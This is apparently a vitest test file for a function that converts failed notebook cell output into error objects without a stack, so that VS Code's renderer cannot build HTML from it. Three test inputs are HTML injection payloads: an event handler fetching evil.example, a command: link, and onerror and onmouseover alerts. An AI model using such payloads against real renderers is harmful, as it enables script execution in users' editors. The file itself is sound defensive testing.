// A failed cell's notebook error output. VS Code's notebook renderer, in a trusted workspace,
// builds HTML from an error's stack: every `<a href=…>…</a>` in it is inserted as markup, and an
// IPython-looking traceback ("File x:3", "Cell In [1], line 2") gets links whose targets are cut
// from the text unescaped (extensions/notebook-renderers: linkify.ts, stackTraceHelper.ts). The
// stack would be the program's stderr, which the model's code writes: so the error carries no
// stack (its name and message show as text), and the traceback goes out as a stderr stream,
// which that renderer never reads as HTML.
import { describe, expect, it } from 'vitest';
import { failureOf } from '../../../src/notebook/cellFailure';
import type { ExecResult } from '../../../src/sandbox/types';

const failed = (stderr: string, over: Partial<ExecResult> = {}): ExecResult => ({ stdout: '', stderr, exitCode: 1, durationMs: 5, timedOut: false, truncated: false, artifacts: [], ...over });

describe('failureOf', () => {
  it("names the error from the traceback's last line", () => {
    const e = failureOf(failed('Traceback (most recent call last):\n  File "<cell>", line 1, in <module>\nNameError: name \'x\' is not defined\n'));
    expect(e.name).toBe('NameError');
    expect(e.message).toBe("name 'x' is not defined");
  });

  it.each([
    '<a href="command:workbench.action.terminal.new" onmouseover="fetch(`https://evil.example`)">line 1</a>',
    "  File x' onmouseover='alert(1):12\n 12 x = 1",
    "x'><img src=x onerror=alert(1)>Cell In [1], line 2",
  ])('carries none of stderr as a stack for the renderer to build HTML from: %s', (stderr) => {
    const e = failureOf(failed(`Traceback (most recent call last):\n${stderr}\nValueError: bad\n`));
    expect(e.stack ?? '').toBe('');
    expect(`${e.name}: ${e.message}`).toBe('ValueError: bad');
  });

  it('says why a killed cell stopped', () => {
    const e = failureOf(failed('', { killed: 'cancelled', killMessage: 'was interrupted', exitCode: null }));
    expect(`${e.name}: ${e.message}`).toBe('Interrupted: The sandbox was interrupted.');
    expect(e.stack ?? '').toBe('');
  });
});
